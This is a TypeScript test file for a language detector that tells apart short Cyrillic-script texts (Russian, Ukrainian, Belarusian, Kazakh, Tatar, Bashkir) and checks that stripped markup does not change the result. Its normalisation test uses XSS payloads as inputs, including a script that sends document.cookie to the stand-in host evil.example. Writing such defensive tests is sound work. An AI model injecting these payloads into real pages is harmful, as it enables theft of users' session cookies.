import { describe, expect, it } from 'vitest';
import { DEFAULT_LANGUAGE_OPTIONS, detectLanguage } from '../../../src/detect/detect-language.js';
import { normalizeText } from '../../../src/detect/normalize-text.js';

const lang = (text: string) => detectLanguage(text.toLowerCase(), DEFAULT_LANGUAGE_OPTIONS);

describe('detectLanguage', () => {
  it('should call short Russian Russian, where franc says Macedonian or Ukrainian', () => {
    for (const text of ['Яма на дороге', 'опять нет воды', 'Где автобус?', 'Мусор']) expect(lang(text), text).toBe('rus');
  });

  it('should decide by distinctive letters', () => {
    expect(lang('Вибачте, де зупинка? Її немає')).toBe('ukr');
    expect(lang('Дякую за інформацію')).toBe('ukr');
    expect(lang('Дзякуй, усё добра, дзеці ўжо дома')).toBe('bel');
    expect(lang('Дзякуй вам вялікі за працу')).toBe('bel');
    expect(lang('Рахмет! Жақсы жаңалық.')).toBe('kaz');
    expect(lang('Сәлам, ничек хәлләр? Рәхмәт, җитә')).toBe('tat');
    expect(lang('Һаумыһығыҙ, рәхмәт ҙур')).toBe('bak');
  });

  it('should ask franc about Latin-script text and say und for text without letters', () => {
    expect(lang('Hello everyone, is there a good cafe near the station?')).toBe('eng');
    expect(lang('🤬🤬🤬 !!! 123')).toBe('und');
    expect(lang('ok')).toBe('und');
  });

  it('should not let markup decide the language, once the text is normalised', () => {
    const normalised = (text: string) => detectLanguage(normalizeText(text).text, DEFAULT_LANGUAGE_OPTIONS);
    for (const text of [
      '<script>alert(document.cookie)</script> Нет отопления на Гагарина 12',
      '<script>document.location="http://evil.example/?c="+document.cookie;</script>Нет отопления на Гагарина 12',
      '<img src=x onerror=alert(document.cookie)> Нет отопления на Гагарина 12',
      '<style>body{background:url(javascript:alert(1))}</style><b>Нет отопления</b> на <i>Гагарина</i> 12',
      '&lt;script&gt;&amp;&quot;&#x27;&#39; Нет отопления на Гагарина 12',
      '<script>alert(document.cookie) Нет отопления на Гагарина 12',
    ]) {
      expect(normalised(text), text).toBe('rus');
    }
    expect(normalised('<b>Hello everyone, is there a good cafe near the station?</b>')).toBe('eng');
    expect(normalised('<script>alert(document.cookie)</script>')).toBe('und');
  });

  it('should answer only with allowed languages', () => {
    expect(detectLanguage('hello everyone, is there a good cafe near the station?', { allowed: ['rus'], francMinLetters: 12 })).toBe('und');
  });
});
